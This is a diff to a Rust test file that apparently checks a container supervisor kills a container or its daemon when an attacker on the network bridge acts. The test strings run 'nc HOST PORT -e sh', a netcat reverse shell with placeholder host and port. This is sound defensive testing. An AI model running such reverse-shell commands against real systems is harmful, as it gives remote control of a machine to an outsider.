@@ -6,9 +6,6 @@ use nix::sys::signal::Signal;
 use nix::unistd::Pid;
 use serde_json::json;
 
-/// Waits in the guest for its address.
-const ONLINE: &str = "until ip route | grep -q default; do usleep 10000; done";
-
 #[test]
 fn the_command_line_is_killed() {
     let coi = Coi::new();
@@ -24,7 +21,7 @@ fn the_command_line_is_killed() {
     let (_, watch) = coi.ask(&format!("/v1/watches/{name}"));
     assert_eq!((&watch["state"], &watch["respond"]), (&json!("running"), &json!(true)));
     let attacker = Attacker::on_bridge();
-    let attack = attacker.fill(&format!("{ONLINE}; nc HOST PORT -e sh"));
+    let attack = attacker.fill("nc HOST PORT -e sh");
     let mut attack = exec(&name, "/workspace", &["sh", "-c", &attack]).spawn().unwrap();
     viewer.until_state("killed");
     assert_eq!(incus::instance(&name), None);
@@ -56,7 +53,7 @@ fn the_daemon_is_killed() {
     let name = coi.container();
     let (here, go) = (Gate::new(&coi, "here"), Gate::new(&coi, "go"));
     let attacker = Attacker::on_bridge();
-    let script = attacker.fill(&format!("{ONLINE}; read x <here; read x <go; nc HOST PORT -e sh"));
+    let script = attacker.fill("read x <here; read x <go; nc HOST PORT -e sh");
     let run = coi.start(&["run", "--image", TINY, "--", "sh", "-c", &script]);
     let here = here.reached();
     coi.daemon().kill();
